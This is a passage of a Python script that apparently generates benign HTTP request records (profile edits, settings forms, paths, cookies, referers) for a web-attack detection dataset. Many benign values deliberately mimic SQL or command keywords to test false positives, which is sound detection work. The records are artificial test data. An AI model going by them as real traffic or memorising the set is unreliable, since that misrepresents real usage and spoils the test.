]

PATHS = [
    "/api/users/42", "/api/users/1017", "/api/users/jean-luc", "/api/users/o%27brien", "/api/users/d%27souza",
    "/api/users/zo%C3%AB", "/api/users/ann.lee", "/api/users/42/avatar", "/api/users/42/teams",
    "/api/teams/union-square", "/api/teams/select-accounts", "/api/docs/select-committee-report",
    "/api/docs/sleep-policy-2024", "/api/reports/benchmark-q3", "/api/tags/c%2B%2B", "/api/tags/c%23",
    "/api/tags/q%26a", "/api/files/report%20(final).pdf", "/api/users/42/settings", "/api/users/me",
    "/api/orders/2024-06-01", "/api/search/table%20tennis", "/api/users/mar%C3%ADa-jos%C3%A9",
    "/api/users/4294967295", "/api/events/match-day-18", "/api/projects/merge-billing",
    "/api/teams/drop-in-support", "/api/kb/how-to-delete-your-account", "/api/kb/update-address",
    "/api/kb/execute-a-release",
]

SETTINGS = [
    ("Ann Lee", "Data person. SELECT * FROM coffee;", "Europe/Berlin"),
    ("Pat O'Neil", "Sales lead, Dublin & London", "Europe/Dublin"),
    ("Zoë", "Product design; I like tables, charts and maps", "Europe/Paris"),
    ("Tomás", "On call: drop me a line anytime", "America/Mexico_City"),
    ("Kate (she/her)", "Union rep for the engineering team", "Europe/London"),
    ("Raj", "Benchmark nerd -- 2x faster or bust", "Asia/Kolkata"),
    ("Mei", "Merge queue maintainer", "Asia/Shanghai"),
    ("Jo", "I 'execute' plans, mostly", "Australia/Sydney"),
    ("Sam", "Sleep > coffee", "America/New_York"),
    ("Olu", "Match analyst for the 5-a-side league", "Africa/Lagos"),
    ("Nina", "If it's not written down, it didn't happen", "Europe/Oslo"),
    ("Hugo", "Shutdown coordinator, plant B", "Europe/Madrid"),
    ("Ivy", "Order & chaos in equal measure", "America/Chicago"),
    ("Yuki", "Case manager, claims team", "Asia/Tokyo"),
    ("Leo", "Having fun with Postgres and Rust", "Europe/Rome"),
]


def _benign(kind: str, placement: str, rec: dict[str, Any], n: int) -> dict[str, Any]:
    return {**rec, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement, "sub": kind}


def benign() -> Iterator[dict[str, Any]]:
    rng.seed(701701)
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    for text in SEARCHES:                   # the search box: the API's query and the admin form
        n += 1
        yield _benign("search", "query", real_request("query", text, "", n), n)
        n += 1
        yield _benign("search", "form", real_request("form", text, "", n), n)
    for i, prof in enumerate(PROFILES):      # profiles created and edited
        for j in range(2):
            n += 1
            doc = {**prof, "email": f"user{i}.{j}@example.org", "bio": BIOS[(i + j) % len(BIOS)]}
            method, uri = ("PATCH", "/api/users/42") if j else ("POST", "/api/users")
            rec = {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=False),
                   "headers": {**_browser("application/json", n), "Content-Type": "application/json",
                               "Origin": "https://app.example.com"}}
            yield _benign("profile", "json", rec, n)
    for name, bio, tz in SETTINGS:          # /me/settings form
        n += 1
        body = urllib.parse.urlencode([("csrf_token", _token(40)), ("display_name", name), ("bio", bio),
                                       ("timezone", tz)])
        h = _browser("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", n, "document")
        rec = {"method": "POST", "uri": "/me/settings", "body": body,
               "headers": {**h, "Content-Type": "application/x-www-form-urlencoded",
                           "Origin": "https://app.example.com"}}
        yield _benign("settings", "form", rec, n)
    for url in DOC_LINKS:                   # documentation links as profile website and as a Referer
        n += 1
        rec = {"method": "POST", "uri": "/api/users", "body": json.dumps({"name": "Ann Lee", "website": url}),
               "headers": {**_browser("application/json", n), "Content-Type": "application/json"}}
        yield _benign("link", "json", rec, n)
        n += 1
        h = _browser("application/json", n)
        h["Referer"] = url
        yield _benign("link", "header", {"method": "GET", "uri": _query_uri("ann", n), "body": "", "headers": h}, n)
    for path in PATHS:
        n += 1
        yield _benign("path", "path", {"method": "GET", "uri": path, "body": "",
                                       "headers": _browser("application/json", n)}, n)
    for ua in USER_AGENTS:
        n += 1
        h = _browser("application/json", n)
        h["User-Agent"] = ua
        yield _benign("ua", "header", {"method": "GET", "uri": _query_uri("lee", n), "body": "", "headers": h}, n)
    for ref in REFERERS:
        n += 1
        h = _browser("application/json", n)
        h["Referer"] = ref
        yield _benign("referer", "header", {"method": "GET", "uri": _query_uri("kim", n), "body": "", "headers": h},
                      n)
    for cv in COOKIE_VALUES:
        n += 1
        h = _browser("application/json", n)
        h["Cookie"] += "; " + cv
        yield _benign("cookie", "header", {"method": "GET", "uri": _query_uri("patel", n), "body": "",
                                           "headers": h}, n)
    for text in SEARCHES:                   # a search as the path of a shareable results page
        n += 1
        yield _benign("search-path", "path", {"method": "GET", "uri": "/api/users/search/" + _q(text), "body": "",
                                              "headers": _browser("application/json", n)}, n)
    for text in SEARCHES[::3]:              # the last search remembered in a cookie
        n += 1
        h = _browser("application/json", n)
        h["Cookie"] += "; last_search=" + _cookie_value(text, "")
        yield _benign("search-cookie", "header", {"method": "GET", "uri": _query_uri("ann", n), "body": "",
                                                  "headers": h}, n)
    for i, text in enumerate(SEARCHES[:60]):  # the same words in XML and multipart profile updates
        n += 1
        place = ["xml", "multipart-field"][i % 2]
        yield _benign("upload", place, real_request(place, text, "", n), n)
    yield from numbered((real_request("json", t, "", k) for k, t in enumerate(BIOS + SEARCHES[60:120])),
                        f"{NAME}-field", n, "json")


if __name__ == "__main__":
    print_records(attacks(), benign())
